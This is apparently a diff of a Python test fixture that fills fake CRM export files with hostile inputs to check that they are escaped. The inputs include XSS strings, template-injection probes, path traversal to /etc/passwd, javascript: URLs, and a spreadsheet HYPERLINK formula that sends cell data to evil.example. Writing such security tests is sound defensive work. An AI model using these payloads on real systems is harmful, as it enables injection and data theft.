@@ -20,7 +20,7 @@ from goodwill.web import work
 from goodwill.workspace import open_workspace
 
 #: What stands in texts of exports; ``evil`` as element and attribute tells where it got through.
-MARKUP = '"><evil-tag>\'</title></script><script>evil()</script><img src=x onerror=evil()>'
+MARKUP = "\"><evil-tag>'</title></script><script>evil()</script><img src=x onerror=evil()>"
 TEMPLATE = "{{ 1234*4321 }}${1234*4321}{% raw %}%s%(x)s{0}"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"evil")'
 #: What a template that was worked out would show.
@@ -32,6 +32,7 @@ PEOPLE = tuple((given, family) for given in GIVEN for family in FAMILY)
 COMPANIES = 12
 #: Names of files and sheets.
 FILE = "<img src=x onerror=evil()>{{1234*4321}}.csv"
+SUM = '=HYPERLINK("evil").csv'
 SHEET = "<img src=x onerror=evil()>"
 
 SETTINGS = f"""[company]
@@ -159,7 +160,7 @@ def written(folder: Path) -> Path:
         ("contacts.csv", contacts()), ("companies.csv", companies()), ("Opportunities.csv", opportunities()),
         ("Opportunity Contact Roles.csv", roles()), ("tickets.csv", tickets()), ("posts.csv", posts()),
         ("acts.csv", acts()), ("handles.csv", handles()), (FILE, table(["a", MARKUP], [(FORMULA, ALL)])),
-        ("book.xlsx", book()), ("broken.json", b'{"a": [1, 2' + MARKUP.encode()),
+        ("book.xlsx", book()), (SUM, table(["=a", "+b"], [("=1", "@x")])), ("broken.json", b'{"a": [1, 2' + MARKUP.encode()),
     ):  # fmt: skip
         (folder / "exports" / name).write_bytes(content)
     (folder / "decisions").mkdir()
@@ -264,7 +265,11 @@ def posts() -> bytes:
 
 def acts() -> bytes:
     """What people did; some of the addresses are script."""
-    pages = (f"javascript:evil()//{MARKUP}", f"https://ours.example/?e={mail(3)}&x={MARKUP}", "data:text/html,<script>evil()</script>")
+    pages = (
+        f"javascript:evil()//{MARKUP}",
+        f"https://ours.example/?e={mail(3)}&x={MARKUP}",
+        "data:text/html,<script>evil()</script>",
+    )
     rows = [
         (f"act{n}{MARKUP}", f"2025-{1 + n % 6:02d}-{1 + n % 28:02d}", mail(n % 36), f"post{n % 40}", pages[n % 3], ALL)
         for n in range(240)
@@ -276,7 +281,11 @@ def handles() -> bytes:
     """What people did under names of their own choice."""
     odd = (MARKUP, TEMPLATE, FORMULA, "../../etc/passwd", "a b?c=d#e", "%00%2e%2e", "x" * 300)
     rows = [
-        (f"h{n}", f"2025-04-{1 + n % 28:02d}", odd[n % 12] if n % 12 < len(odd) else f"@{handle(n % 36)}@social.example")
+        (
+            f"h{n}",
+            f"2025-04-{1 + n % 28:02d}",
+            odd[n % 12] if n % 12 < len(odd) else f"@{handle(n % 36)}@social.example",
+        )
         for n in range(60)
     ]
     return table(["id", "day", "who"], rows)
